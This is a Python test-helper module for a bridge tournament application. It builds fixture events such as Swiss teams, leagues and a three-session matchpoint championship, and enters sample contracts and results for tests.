def matches_event(contest: str, n: int, *, boards: int = 2, names: Sequence[str] = (), **kw) -> Event:
    """An event of matches of ``n`` entrants named ``names`` (else "T1", "T2", ...), no players named."""
    names = list(names) or [f"T{i}" for i in range(1, n + 1)]
    return matches_event_create(
        name=kw.pop("name", "League"),
        date=dt.date(2026, 11, 28),
        contest=contest,
        entrants=[
            EntrantSpec(name=x, seed=kw.pop("seed_offset", 0) + i) for i, x in enumerate(names, start=1)
        ],
        boards_per_match=boards,
        **kw,
    )


def match_plays(match) -> list[Play]:
    """The plays of a match's tables, board then table."""
    return list(
        Play.objects.filter(
            event_id=match.event_id,
            seating__round__number=match.round,
            seating__table__in=match_tables(match.table, teams=match.event.kind == "teams"),
        )
        .select_related("seating__round", "board", "ns_pair", "ew_pair", "event")
        .order_by("board__number", "seating__table")
    )


def round_play_all(event: Event, round_number: int, data: dict) -> None:
    """Enter ``data`` at every table of round ``round_number`` (a flat board everywhere)."""
    for play in Play.objects.filter(event=event, seating__round__number=round_number).select_related(
        "seating__round", "board", "event"
    ):
        enter(play, data)


# --- Events of matches' pages (a league, a Swiss: teams.match_views) ----------------------------------------


def teams_event(n: int = 6, *, contest: str = "swiss-teams", boards: int = 2, rounds: int = 3) -> Event:
    """A league or Swiss of ``n`` entrants named "Team 1", ... seeded in that order (:func:`matches_event`)."""
    names = [f"Team {i}" for i in range(1, n + 1)]
    planned = {"rounds": rounds} if contest != "round-robin" else {}
    return matches_event(
        contest, n, boards=boards, names=names, name=f"{contest} of {n}", seeded=True, **planned
    )


def whole_results(event: Event, round_number: int, imps: list[tuple[int, int]] | None = None) -> list[Any]:
    """Round ``round_number``'s matches (table order, byes left out) given whole results in IMPs: ``imps`` in
    table order (default: home wins each by 10, 20-10 IMPs)."""
    matches = list(
        Match.objects.filter(event=event, round=round_number, away__isnull=False).order_by("table")
    )
    given = imps or [(20, 10)] * len(matches)
    return [
        match_result_save(match=m, entered="imps", home=h, away=a)
        for m, (h, a) in zip(matches, given, strict=True)
    ]


# Championships of sessions (docs/championships.md): three contract matchpoint sessions, 3-table Mitchells of
# one board a round, worked by hand in tests/duplicate/test_championships.py.

CHAMPIONSHIP_SEATS = {
    "1": ("Ann Abel", "Bea Bond"),
    "2": ("Cat Cole", "Dot Dunn"),
    "3": ("Eve Eyre", "Fay Fox"),
    "4": ("Gus Gray", "Hal Hunt"),
    "5": ("Ian Ivy", "Jim Judd"),
    "6": ("Kit King", "Len Lamb"),
}
MADE_3NT = {"contract": "3NT", "declarer": "N", "tricks": 9}  # board 1, none vulnerable: +400
PASSED = {"contract": "PASS"}


def session_played(event: Event, top_ns: str | None) -> None:
    """Every board of a session passed out, except board 1 where N-S pair ``top_ns`` made 3NT (+400)."""
    for play in Play.objects.filter(event=event).select_related("ns_pair", "board").order_by("pk"):
        won = top_ns is not None and play.board.number == 1 and play.ns_pair.number == top_ns
        enter(play, MADE_3NT if won else PASSED)


def championship_of_three(carry_over: str, carry_fraction: str = "", *, tables: int = 3, play: bool = True):
    """A championship of three sessions: pair 1 tops board 1 in session 1, pair 2 in session 2, nobody in
    session 3; in session 2 pair 6 is a new pair (Mo Moss & Ned Nash), who play session 3 too."""
    championship = championship_create(
        name="Autumn championship",
        date=dt.date(2026, 10, 3),
        carry_over=carry_over,
        carry_fraction=carry_fraction,
    )
    movement = services.movement_build(kind="mitchell", tables=tables, boards_per_round=1)
    first = session_add(
        championship=championship,
        movement=movement,
        code="contract",
        kind="pairs",
        contest="matchpoints",
        analyse=False,
    )
    services.event_names_update(
        event=first, pairs={k: v for k, v in CHAMPIONSHIP_SEATS.items() if int(k) <= 2 * tables}
    )
    second = session_add(championship=championship, movement=movement, analyse=False)
    services.event_names_update(event=second, pairs={str(2 * tables): ("Mo Moss", "Ned Nash")})
    third = session_add(championship=championship, movement=movement, analyse=False)
    if play:
        session_played(first, "1")
        session_played(second, "2")
        session_played(third, None)
    championship.refresh_from_db()
    return championship, (first, second, third)


# Unlikely results (docs/laws.md): board 1's double dummy worked by hand from DEAL_1.

# N, S, E, W; each NT, S, H, D, C (PBN's DoubleDummyTricks order): a side wins all 13 in either of its two
# suits (declarer's partner ruffs the opening lead); none in no trump (the opening leader runs a suit).
DD_1 = "0d0d0" + "0d0d0" + "00d0d" + "00d0d"
UNLIKELY_OTHERS = (
    {"contract": "4S", "declarer": "N", "tricks": 13},
    {"contract": "4S", "declarer": "S", "tricks": 13},
)


def unlikely_game(tables: int = 3):
    """A contract event with board 1's hands (DEAL_1) analysed and entered at two of its three tables; the
    table still to enter it: table 1 in round 1 (its play returned). For unlikely results."""
    event = make_event(tables=tables, code="contract")
    services.board_deals_set(event=event, deals={1: DEAL_1})
    DealAnalysis.objects.create(deal=DEAL_1, tricks=DD_1)
    plays = board_plays(event, 1)  # table 1 in round 1, then two other tables
    for play, data in zip(plays[1:], UNLIKELY_OTHERS, strict=False):
        enter(play, data)
    return event, plays[0]
